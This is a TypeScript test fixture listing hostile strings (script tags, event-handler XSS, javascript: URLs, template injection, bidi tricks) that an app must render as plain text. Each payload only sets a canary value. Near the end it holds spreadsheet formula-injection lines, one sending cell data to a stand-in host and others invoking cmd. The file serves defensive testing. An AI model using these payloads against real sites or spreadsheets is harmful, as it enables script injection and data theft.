/**
 * Text an attacker can put in a workspace (a clipped page, a teammate's client, an imported plan)
 * that must stay text wherever Evident shows it: no script runs, no element appears, no link goes to
 * a script URL. Each string is tagged with the canary it would set if it ran, so a test can check
 * `window.__evidentPwned` stayed empty and that no `[data-pwned]` element exists.
 */
export const PWNED = '__evidentPwned';

const run = (id: number) => `(window.${PWNED}=window.${PWNED}||[]).push(${id})`;

export const HOSTILE_STRINGS: readonly string[] = [
  `<script>${run(1)}</script>`,
  `<img src=x onerror="${run(2)}" data-pwned>`,
  `<svg onload="${run(3)}" data-pwned></svg>`,
  `"><script>${run(4)}</script>`,
  `'><img src=x onerror=${run(5)} data-pwned>`,
  `</script><script>${run(6)}</script>`,
  `</textarea><script>${run(7)}</script>`,
  `</title><script>${run(8)}</script>`,
  `<iframe src="javascript:${run(9)}" data-pwned></iframe>`,
  `javascript:${run(10)}`,
  `JaVaScRiPt:${run(11)}`,
  ` javascript:${run(12)}`,
  `data:text/html,<script>${run(13)}</script>`,
  `vbscript:msgbox(14)`,
  `<a href="javascript:${run(15)}" data-pwned>click</a>`,
  `<div style="background:url(javascript:${run(16)})" data-pwned>x</div>`,
  `<style>body{background:url("javascript:${run(17)}")}</style>`,
  `\\3c script\\3e ${run(18)}\\3c /script\\3e`,
  `expression(${run(19)})`,
  `{{constructor.constructor('${run(20)}')()}}`,
  `\${${run(21)}}`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${run(22)} data-pwned>`,
  `<details open ontoggle="${run(23)}" data-pwned>`,
  `<input autofocus onfocus="${run(24)}" data-pwned>`,
  `<body onload="${run(25)}">`,
  `<object data="javascript:${run(26)}" data-pwned></object>`,
  `<embed src="javascript:${run(27)}" data-pwned>`,
  `<form action="javascript:${run(28)}" data-pwned><button>go</button></form>`,
  `<base href="javascript:${run(29)}//">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${run(30)}">`,
  `\u202Egnp.exe\u202C <b data-pwned>right-to-left override</b>`,
  `\u2066isolate\u2069 \u200Fmark <img src=x onerror=${run(32)} data-pwned>`,
  `]]><!--<script>${run(33)}</script>-->`,
  `&lt;script&gt;${run(34)}&lt;/script&gt;`,
  `\u2028\u2029<script>${run(35)}</script>`,
  `=HYPERLINK("http://evil.example/?"&A1,"click")`,
  `+cmd|' /C calc'!A0`,
  `@SUM(1+1)*cmd|' /C calc'!A0`,
  `-2+3+cmd|' /C calc'!A0`,
];

/** The URL-shaped ones: placed where Evident expects an address (source URLs, pack links). */
export const HOSTILE_URLS: readonly string[] = HOSTILE_STRINGS.filter((s) => /^\s*(javascript|data|vbscript|JaVaScRiPt):/i.test(s));
